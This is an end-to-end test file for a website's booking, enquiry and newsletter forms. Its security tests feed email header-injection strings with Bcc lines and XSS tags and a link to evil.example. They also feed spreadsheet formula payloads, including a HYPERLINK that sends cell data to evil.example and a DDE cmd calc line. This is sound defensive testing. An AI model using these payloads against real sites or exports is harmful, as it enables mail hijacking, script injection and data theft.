import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scaled } from '../../../scripts/clock/timeouts.ts';
import { ENQUIRY_PATH } from '../../../website/src/features/leads/lead-rules.ts';
import { NEWSLETTER_PATH } from '../../../website/src/features/newsletter/newsletter-constants.ts';
import { BOOKING_PATH } from '../../../website/src/features/stylists/booking-rules.ts';
import { expect, test } from '../../base-test.ts';
import { call } from '../../content/content-requests.ts';
import { readCsv } from '../../content/csv.ts';
import { fault, figure, inFull } from '../../faults/figures.ts';
import { instantOf, readCalendar } from '../../forms/calendar-file.ts';
import { blackPng } from '../../forms/png.ts';
import {
  CENTRE_ADDRESS,
  delivered,
  type SubmissionRig,
  startRig,
  submissionCases,
} from '../../forms/submission-cases.ts';
import {
  bookingFields,
  dayAhead,
  enquiryFields,
  freshEmail,
  freshKey,
  landingLead,
  leasing,
  lunchCard,
  offeredTimes,
  postForm,
  send,
  subscription,
} from '../../forms/submission-forms.ts';
import { long } from '../../length.ts';
import { LIVE } from '../../pages/site.ts';
import { copyDemo } from '../../processes/content-process.ts';
import { startWebsite, type WebsiteProcess } from '../../processes/website-process.ts';

test.describe.configure({ mode: 'serial' });

let rig: SubmissionRig;
let site: WebsiteProcess;
let dataDir: string;

test.beforeAll(async () => {
  test.setTimeout(scaled(90_000));
  dataDir = mkdtempSync(join(tmpdir(), 'submissions-'));
  copyDemo(dataDir);
  rig = await startRig(dataDir);
  site = await startWebsite(rig.content.url, { env: { TRUST_PROXY: '1' } });
});

test.afterAll(async () => {
  await site.remove();
  await rig.stop();
  rmSync(dataDir, { recursive: true, force: true });
});

submissionCases(() => rig, { keys: inFull(24, 100), votes: inFull(400, 10_000) });

const inWarsaw = new Intl.DateTimeFormat('sv', {
  timeZone: 'Europe/Warsaw',
  dateStyle: 'short',
  timeStyle: 'short',
});

/** Where dates are written otherwise than the locale's code says. */
const LANGUAGES: Readonly<Record<string, string>> = { sr: 'sr-Latn', en: 'en-GB' };

test('a booking is confirmed to the visitor in each language: centre, day, hour and a calendar file', async () => {
  test.setTimeout(scaled(60_000));
  const times = offeredTimes(132, 170);
  const emails = new Map(LIVE.map((locale) => [locale, freshEmail(locale.toLowerCase())]));
  // As far ahead as it goes, over a change of the clocks where there is one.
  const timeAt = (at: number) => times.at(-1 - Math.floor((at * times.length) / LIVE.length));
  const asked = new Map(LIVE.map((locale, at) => [locale, timeAt(at)]));
  // Between two of those: nobody takes it.
  const spare = times.at(-2);
  for (const [locale, email] of emails) {
    const { date, hour } = asked.get(locale) ?? { date: '', hour: '' };
    const alternate = `${spare?.date}T${spare?.hour}`;
    const fields = { ...bookingFields(email), first: `${date}T${hour}`, alternate, key: freshKey() };
    const answer = await postForm(site.url, BOOKING_PATH, fields, { locale });
    expect(answer.status, locale).toBe(200);
  }
  await delivered(rig);
  for (const [locale, email] of emails) {
    const { date, hour } = asked.get(locale) ?? { date: '', hour: '' };
    const centre = (await call('headerStatic', {}, locale)).headerData?.centreName ?? '';
    expect(centre, locale).not.toBe('');
    const mails = rig.mail.to(email);
    expect(mails, locale).toHaveLength(1);
    const [mail] = mails;
    const { parsed, recipients } = mail ?? {};
    if (!parsed) continue;
    expect(recipients).toEqual([email]);
    expect(parsed.subject, locale).toContain(centre);
    expect(parsed.headers.get('content-language'), locale).toBe(locale);
    expect(parsed.headers.get('auto-submitted')).toBe('auto-generated');
    const words = new Intl.DateTimeFormat(LANGUAGES[locale] ?? locale, {
      timeZone: 'UTC',
      day: 'numeric',
      month: 'long',
      year: 'numeric',
    }).format(new Date(`${date}T12:00:00Z`));
    const html = String(parsed.html);
    for (const text of [parsed.text ?? '', html]) {
      for (const part of [centre, words, hour.replace(/^0/, ''), 'Ewa', 'Zorzy 2', '+48 22 555 00 22'])
        expect(text, locale).toContain(part);
      expect(text, locale).not.toMatch(/undefined|null|NaN|\{\w+\}/);
    }
    expect(html, locale).toContain(`lang="${locale}"`);

    // An invitation for mail programs that know them, and the same as a file for people.
    const files = parsed.attachments.map(({ contentType }) => contentType);
    expect(files, locale).toEqual(['text/calendar', 'application/ics']);
    const [entry, file] = parsed.attachments;
    expect(file?.filename).toMatch(/\.ics$/);
    expect(file?.content.equals(entry?.content ?? Buffer.alloc(0)), locale).toBe(true);
    const event = readCalendar(entry?.content.toString('utf8') ?? '');
    const begins = instantOf(event.get('DTSTART'));
    expect(inWarsaw.format(begins), locale).toBe(`${date} ${hour}`);
    expect(instantOf(event.get('DTEND')), locale).toEqual(new Date(begins.getTime() + 2 * 3_600_000));
    expect(event.get('SUMMARY'), locale).toContain(centre);
    expect(event.get('LOCATION'), locale).toContain(centre);
    expect(Number.isNaN(instantOf(event.get('DTSTAMP')).getTime())).toBe(false);
  }
  // Of the Romanian service (spec section 9): two hours, the time is agreed later, the team gets in touch.
  const [romanian] = rig.mail.to(emails.get('ro-RO') ?? '');
  expect(romanian?.parsed.text).toMatch(/\b(?:2|două) ore\b/);
  const subjects = new Set([...emails.values()].map((email) => rig.mail.to(email)[0]?.parsed.subject));
  expect(subjects.size, 'each language has words of its own').toBeGreaterThanOrEqual(10);
  // The centre is told of each, once, and may answer the visitor.
  for (const email of emails.values()) {
    const notices = rig.mail.about(email).filter(({ recipients }) => !recipients.includes(email));
    expect(notices).toHaveLength(1);
    expect(notices[0]?.parsed.text).toContain('+48 600 100 200');
  }
});

test('one booking however often its form is posted, to whichever instance of the site: one row, one mail', async () => {
  const other = await startWebsite(rig.content.url, { env: { TRUST_PROXY: '1' } });
  try {
    const email = freshEmail('again');
    const fields = { ...bookingFields(email), key: freshKey() };
    const photos = [{ bytes: blackPng(64, 64), type: 'image/png', filename: 'a.png' }];
    const post = (url: string) => postForm(url, BOOKING_PATH, fields, { photos });
    const answers = await Promise.all([site, other, site, other, site, other].map(({ url }) => post(url)));
    expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 200));
    await delivered(rig);
    expect(await rig.staff.count('submission', { email })).toBe(1);
    expect(await rig.staff.count('personal-stylist-calendar', { email })).toBe(1);
    expect(rig.mail.to(email)).toHaveLength(1);
    expect(rig.mail.about(email)).toHaveLength(1);
  } finally {
    await other.remove();
  }
});

test('line breaks in names and addresses make no header and no recipient', fault(22), async () => {
  const victim = 'victim@elsewhere.example';
  const breaks = ['\r\n', '\n', '\r', '\u2028', '\u0085', '%0d%0a', '\\r\\n', '\r\n\t'];
  const before = rig.mail.mails.length;
  const emails: string[] = [];
  for (const end of breaks) {
    const email = freshEmail('header');
    emails.push(email);
    const header = `Lis${end}Bcc: ${victim}`;
    // By the form, with and without a value that would pass, and past the website.
    await postForm(site.url, ENQUIRY_PATH, { ...enquiryFields(email), name: header });
    await postForm(site.url, ENQUIRY_PATH, { ...enquiryFields(email), companyName: header });
    await postForm(site.url, ENQUIRY_PATH, enquiryFields(`${email}${end}Bcc: ${victim}`));
    await postForm(site.url, BOOKING_PATH, { ...bookingFields(email), last_name: header, occasion: header });
    await send(rig.content.url, 'enquireLeasing', { ...leasing(email), companyName: header });
    await send(rig.content.url, 'enquireLeasing', { ...leasing(email), name: header });
    await send(rig.content.url, 'requestLunchCard', { ...lunchCard(email), first_name: header });
  }
  for (const address of [
    `a@b.example,${victim}`,
    `a@b.example;${victim}`,
    `"${victim}" <a@b.example>`,
    `<${victim}>`,
    `a@b.example ${victim}`,
    `a@b.example\0${victim}`,
    `${victim}(comment)`,
    `a@b.example>${victim}`,
  ]) {
    for (const answer of [
      await postForm(site.url, ENQUIRY_PATH, enquiryFields(address)),
      await send(rig.content.url, 'enquireLeasing', leasing(address)),
      await send(rig.content.url, 'subscribe', subscription(address)),
    ])
      expect([400, 422], address).toContain(answer.status);
  }
  await delivered(rig);
  const came = rig.mail.mails.slice(before);
  expect(came.length, 'some of them were harmless, and came').toBeGreaterThan(0);
  let more = 0;
  for (const { recipients, parsed, raw } of came) {
    const [head = ''] = raw.split('\r\n\r\n');
    if (recipients.includes(victim) || head.includes(victim) || /^(?:b?cc|x-[a-z-]+):/im.test(head))
      more += 1;
    expect(recipients).not.toContain(victim);
    expect(head).not.toMatch(/^(?:b?cc|x-[a-z-]+):/im);
    expect(head).not.toContain(victim);
    expect([...parsed.headers.keys()]).not.toContain('bcc');
    expect(parsed.to && !Array.isArray(parsed.to) ? parsed.to.value : []).toHaveLength(1);
    expect(emails.some((email) => recipients.includes(email)) || recipients.length >= 1).toBe(true);
  }
  figure(
    22,
    `${breaks.length} line breaks in 7 fields, 8 lists of addresses`,
    `of ${came.length} mails with a header or recipient more`,
    more,
    { atMost: 0 },
  );
});

test('HTML and hidden signs in what was typed are shown as text to the staff', fault(21), async () => {
  const email = freshEmail('html');
  const evil = `<img src=x onerror=alert(1)><script>alert(2)</script><a href="https://evil.example">"klik"</a> & 'x' \u202Eexe.gnp`;
  const answers = [
    await postForm(site.url, ENQUIRY_PATH, {
      ...enquiryFields(email),
      companyName: evil.slice(0, 110),
      details: `${evil}\n${evil}`,
    }),
    await postForm(site.url, BOOKING_PATH, {
      ...bookingFields(email),
      notes: evil,
      occasion: evil.slice(0, 150),
    }),
    await send(rig.content.url, 'landingLead', { ...landingLead(email), details: evil, interest: evil }),
    await send(rig.content.url, 'requestLunchCard', { ...lunchCard(email), details: evil }),
  ];
  expect(answers.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
  await delivered(rig);
  const notices = rig.mail.about(email).filter(({ recipients }) => !recipients.includes(email));
  expect(notices).toHaveLength(4);
  const tags = notices.flatMap(
    ({ parsed }) => String(parsed.html).match(/<(?:img|script|a|iframe|svg)\b[^>]*>/gi) ?? [],
  );
  const hidden = notices.filter(({ raw }) => raw.includes('\u202E')).length;
  figure(
    21,
    '4 forms with <img>, <script>, <a>, U+202E in every long field',
    'tags of visitors in mails',
    tags.filter((tag) => /evil|alert|onerror|src=x/.test(tag)).length,
    { atMost: 0 },
  );
  figure(
    21,
    '4 forms with <img>, <script>, <a>, U+202E in every long field',
    'hidden signs in mails',
    hidden,
    { atMost: 0 },
  );
  for (const { parsed } of notices) {
    const html = String(parsed.html);
    expect(html).toContain('&lt;img src=x');
    expect(html).not.toMatch(/<(?:img|script|a)\b/i);
    expect(`${html}${parsed.text}`).not.toContain('\u202E');
    // As it was typed, to read.
    expect(parsed.text).toContain('<script>alert(2)</script>');
  }
  expect(
    notices.some(({ recipients }) => recipients.includes(CENTRE_ADDRESS)),
    'MAIL_TO where no other is named',
  ).toBe(true);
});

test('the file for spreadsheets holds no formula, and all that was typed', fault(23), async () => {
  const formulas = [
    '=HYPERLINK("https://evil.example?"&A1;"x")',
    '+48 600 100 200',
    '-1+1',
    '@SUM(A1:A9)',
    '  =1+1',
    '\t=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '%0A=1+1',
    ';=1+1',
    '"=1+1',
    "=cmd|' /C calc'!A0",
    'plain, "quoted"\nand two lines',
  ];
  const emails: string[] = [];
  for (const formula of formulas) {
    const email = freshEmail('formula');
    emails.push(email);
    const body = { ...leasing(email), details: formula, companySector: formula.replaceAll(/[\t\n]/g, ' ') };
    expect((await send(rig.content.url, 'enquireLeasing', body)).status, formula).toBe(200);
  }
  const rows = readCsv(await rig.staff.csv('leasing'));
  const ACTIVE = /^[\s\p{Cf}]*[=+\-@＝＋－＠|%]/u;
  let [cells, active] = [0, 0];
  for (const row of rows) {
    for (const cell of Object.values(row)) {
      cells += 1;
      if (ACTIVE.test(cell)) active += 1;
    }
  }
  figure(23, `${formulas.length} formulas in a form`, `of ${cells} cells of the export active`, active, {
    atMost: 0,
  });
  for (const [index, email] of emails.entries()) {
    const row = rows.find((one) => one.email === email);
    const typed = (formulas[index] ?? '').trim();
    for (const field of ['details', 'phone', 'companySector'])
      expect(row?.[field] ?? '', field).not.toMatch(ACTIVE);
    expect(row?.details?.replace(/^'/, '').trim()).toBe(typed);
    expect(row?.phone).toBe("'+48 600 100 200");
  }
});

test(
  'known and unknown addresses of the newsletter are answered alike, and soon not at all',
  long(fault(29)),
  async () => {
    const known = freshEmail('known');
    const headers = { 'x-forwarded-for': '192.0.2.77', 'user-agent': 'one visitor' };
    const subscribe = (email: string) =>
      postForm(site.url, NEWSLETTER_PATH, { email, ageConsent: 'yes', source: '/' }, { headers });
    const first = await subscribe(known);
    // Another case is the same address.
    const second = await subscribe(known.toUpperCase());
    expect([first.status, second.status]).toEqual([200, 200]);
    const named = ({ headers: all, body }: typeof first) => ({
      headers: [...all.keys()].filter((name) => name !== 'content-length'),
      fields: Object.keys(body as object),
    });
    expect(named(second)).toEqual(named(first));
    // Until its owner has confirmed it, nothing at all tells them apart.
    expect(second.body).toEqual(first.body);
    expect(await rig.staff.count('newsletter-subscriber', { email: known })).toBe(1);

    // Whoever tries a list of addresses is stopped, whether they are on it or not.
    const statuses: number[] = [];
    for (let turn = 0; turn < 40; turn++)
      statuses.push((await subscribe(turn % 2 ? known : freshEmail('unknown'))).status);
    const limited = statuses.indexOf(429);
    figure(29, 'one client tries address after address', 'answers before it is stopped', limited + 2, {
      atMost: 30,
    });
    expect(limited).toBeGreaterThan(5);
    expect(new Set(statuses.slice(limited))).toEqual(new Set([429]));
    // Others on the same street still get through.
    const other = await postForm(site.url, NEWSLETTER_PATH, { email: freshEmail(), ageConsent: 'yes' });
    expect(other.status).toBe(200);
    await delivered(rig);
    // However often an address was typed, its owner is asked once, and the CRM hears of nobody who has not confirmed.
    expect(rig.mail.to(known)).toHaveLength(1);
    expect(rig.crm.about(known)).toEqual([]);
  },
);

test('what does not pass is refused by website and content system alike, and leaves nothing', async () => {
  const wrong: Record<string, unknown>[] = [
    { name: 'X' },
    { name: 'R2D2' },
    { name: '' },
    { email: 'nobody' },
    { email: '' },
    { phone: '600 100 200' },
    { phone: '+48' },
    { companyName: '' },
    { details: 'x'.repeat(4_001) },
    { companyName: 'x'.repeat(121) },
    { campaignStart: '2026-02-30' },
    { campaignStart: dayAhead(20), campaignEnd: dayAhead(10) },
  ];
  for (const change of wrong) {
    const email = freshEmail('wrong');
    const fields = { ...enquiryFields(email), ...(change as Record<string, string>) };
    expect((await postForm(site.url, ENQUIRY_PATH, fields)).status, JSON.stringify(change).slice(0, 60)).toBe(
      422,
    );
    const direct = await send(rig.content.url, 'enquireLeasing', { ...leasing(email), ...change });
    expect(direct.status, JSON.stringify(change).slice(0, 60)).toBe(400);
    expect(await rig.staff.count('submission', { email })).toBe(0);
  }
  const email = freshEmail('wrong');
  // No consent; what programs send is in bots.spec.ts.
  expect((await postForm(site.url, ENQUIRY_PATH, { ...enquiryFields(email), dataConsent: '' })).status).toBe(
    422,
  );
  expect(await rig.staff.count('submission', { email })).toBe(0);
});
